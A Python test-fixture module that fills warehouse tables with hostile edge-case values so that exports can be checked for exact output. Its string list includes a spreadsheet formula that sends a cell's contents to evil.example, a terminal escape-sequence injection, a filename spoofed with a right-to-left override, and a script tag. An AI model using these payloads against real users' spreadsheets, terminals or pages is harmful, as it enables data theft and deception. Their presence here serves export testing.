"""Rows that exports must write exactly: strangers' text (quotes, backslashes, newlines, commas,
control and invisible characters, formula starts, non-ASCII up to the astral planes, the empty
string), floats at every edge (signed zero, subnormals, the largest double, 17-digit values, NaN,
the infinities, nulls), extreme integers and timestamps from year 1 to 9999 to the microsecond.
Inserted straight into a warehouse file (as Arrow, so nothing rounds them on the way), in every
column that may hold them."""
from __future__ import annotations

import datetime as dt
import itertools
from typing import Any

import pyarrow as pa

import schemas

TEXTS = [
    "", "plain", "a,b", 'say "hi"', "back\\slash", "line\nbreak", "cr\rhere", "crlf\r\nx", "\ttab start",
    "tab\tinside", "=1+2", '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-2+3", "@SUM(A1)",
    "'quoted", "\rcr start", "\nnewline start", "é", "e\u0301", "漢字", "emoji 🙂", "\U0010fffd",
    "nul\x00inside", "esc\x1b[2J\x1b]0;pwned\x07", "del\x7f", "c1\x85\x9f", "\u202eevil.exe", "\u2028sep\u2029",
    "zero\u200bwidth", "\ufeffbom", "/slash", "<script>alert(1)</script>", 'a"', '"', ",", " lead space",
    "trail space ", "\\", '\\"', "\ud7ff\ue000", "\x01\x02\x03\x1f", "NaN", "-Infinity", "null", "true", "1e5",
    "0.1", "-0.25",
]
FLOATS = [
    0.0, -0.0, 0.1, 0.1 + 0.2, 1 / 3, -2.5, 1e16, 1e15, 9007199254740993.0, 123456789.123, 1e-4, 1e-5, 1e-7,
    5e-324, 2.2250738585072014e-308, 1.7976931348623157e308, -1.7976931348623157e308, 1e22, 1e21,
    12345678901234567890.0, 0.12345678901234567, 1234.5678901234567, float("nan"), float("inf"),
    float("-inf"), None,
]
INTS = [0, -1, 1, 2 ** 62 - 1, -(2 ** 62), 10 ** 15, 7]  # a sum of two fits (the latest view adds two)
BOOLS = [True, False]
STAMPS = [
    dt.datetime(2026, 3, 2, 0, 0, 0, 5), dt.datetime(1, 1, 1), dt.datetime(999, 12, 31, 23, 59, 59, 999999),
    dt.datetime(1969, 12, 31, 23, 59, 59, 999000), dt.datetime(9999, 12, 31, 23, 59, 59, 999999),
    dt.datetime(1970, 1, 1), dt.datetime(2026, 11, 26, 16, 41, 16, 123456),
]
_ARROW = {"VARCHAR": pa.string(), "BIGINT": pa.int64(), "DOUBLE": pa.float64(), "BOOLEAN": pa.bool_(),
          "TIMESTAMP": pa.timestamp("us")}


def _values(duck: str, nullable: bool) -> list[Any]:
    values = {"VARCHAR": TEXTS, "BIGINT": INTS, "DOUBLE": FLOATS, "BOOLEAN": BOOLS, "TIMESTAMP": STAMPS}[duck]
    values = [v for v in values if v is not None]
    return values + [None] if nullable else values


def hostile_table(table: str, rows: int = 0) -> pa.Table:
    """``rows`` rows of ``table`` (at least one for each hostile value of every column); column i of
    row n holds value n + 7i of its list, so values meet in ever other combinations. The primary key
    is unique: its timestamp column moves on a day (and a microsecond) per row."""
    fields = schemas.avro_schema(table)["fields"]
    key = schemas.table_layout(table)["primary_key"]
    typed = []
    for field in fields:
        duck, _, nullable = schemas.column_types(field["type"])
        typed.append((field["name"], duck, nullable and field["name"] not in key))
    rows = max(rows, max(len(_values(duck, nullable)) for _, duck, nullable in typed))
    moved = next((name for name, duck, _ in typed if name in key and duck == "TIMESTAMP"), None)
    numbered = key[-1] if moved is None else None  # a key of text only (actors): its last part gets "~n"
    columns = {}
    for i, (name, duck, nullable) in enumerate(typed):
        values = list(itertools.islice(itertools.cycle(_values(duck, nullable)), 7 * i, 7 * i + rows))
        if name == moved:
            values = [dt.datetime(2000, 1, 1) + dt.timedelta(days=n, microseconds=n) for n in range(rows)]
        if name == numbered:
            values = [f"{value}~{n}" for n, value in enumerate(values)]
        columns[name] = pa.array(values, type=_ARROW[duck])
    return pa.table(columns)


def write_hostile_warehouse(path: str, rows: int = 0) -> str:
    """A warehouse file at ``path`` whose tables hold :func:`hostile_table` rows."""
    import duckdb

    from warehouse import open_warehouse

    open_warehouse(path)
    with duckdb.connect(path) as connection:
        for table in schemas.WAREHOUSE_TABLES:
            incoming = hostile_table(table, rows)  # noqa: F841 (DuckDB reads the local by its name)
            connection.execute(f"INSERT INTO {table} SELECT * FROM incoming")
    return path
